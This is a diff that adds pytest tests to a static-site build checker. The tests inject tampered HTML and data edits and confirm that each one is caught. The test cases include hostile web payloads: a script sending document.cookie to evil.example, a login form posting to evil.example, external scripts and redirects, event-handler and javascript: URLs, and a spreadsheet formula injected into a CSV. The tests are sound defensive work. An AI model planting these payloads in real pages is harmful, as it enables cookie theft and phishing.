@@ -216,3 +216,49 @@ def test_link_check_skipped_without_site(copy, baseline):
     shutil.rmtree(copy / "site")
     proc = run([PY, "-m", "build_tools", "check", "--docs", "docs", "--site", "site"], copy, check=False)
     assert "(no site/: link check skipped)" in proc.stdout and "Traceback" not in proc.stderr
+
+
+# Tampering with a built page or the data files (issue 13, break 10).
+
+@pytest.mark.parametrize("html,words", [
+    ('<script src="https://evil.example/x.js"></script>', "script not from the theme's assets"),
+    ('<script>fetch("https://evil.example/"+document.cookie)</script>', "inline script not made by the theme"),
+    ('<iframe src="https://evil.example/"></iframe>', "foreign element <iframe>"),
+    ('<object data="x.swf"></object><embed src="x.swf">', "foreign element <object>"),
+    ('<form action="https://evil.example/login"><input name="pw"></form>', "form not made by the theme"),
+    ('<img src="https://evil.example/pixel.gif">', "external resource <img src="),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv="refresh">'),
+    ('<div onmouseover="alert(1)">x</div>', "element with an event-handler attribute <div onmouseover="),
+    ('<iframe srcdoc="x"></iframe><area href="javascript:alert(1)">', "unsafe URL in <area href="),
+])
+def test_tampered_page_is_caught(copy, baseline, html, words):
+    _add_to_about_page(copy, html)
+    new = new_problems(copy, baseline)
+    assert any(l.startswith("check: about/index.html: ") and words in l for l in new), new
+
+
+def test_fact_url_anchor_that_does_not_exist(copy, baseline):
+    path = copy / "docs" / "data" / "facts.json"
+    facts = _load(path)
+    facts[0]["url"] = facts[0]["url"].split("#")[0] + "#s999-1"
+    _dump(path, facts)
+    assert f"check: facts.json {facts[0]['id']}: url anchor #s999-1 does not exist on its article page" in new_problems(copy, baseline)
+
+
+def test_quote_cut_to_a_prefix(copy, baseline):
+    path = copy / "docs" / "data" / "facts.json"
+    facts = _load(path)
+    f = next(f for f in facts if len(f["quote"]) > 12)
+    f["quote"] = f["quote"][:10]
+    _dump(path, facts)
+    new = new_problems(copy, baseline)
+    assert any(l.startswith(f"check: facts.json {f['id']}: quote is not the whole sentence #") for l in new), new
+
+
+def test_facts_csv_edited_on_its_own(copy, baseline):
+    path = copy / "docs" / "data" / "facts.csv"
+    lines = path.read_text(encoding="utf-8").split("\n")
+    lines[3] = lines[3].replace(",", ",=HYPERLINK(1)", 1)
+    path.write_text("\n".join(lines), encoding="utf-8")
+    assert "check: facts.csv: line 4 differs from facts.json (edited on its own? rebuild with `python -m build_tools build`)" \
+        in new_problems(copy, baseline)
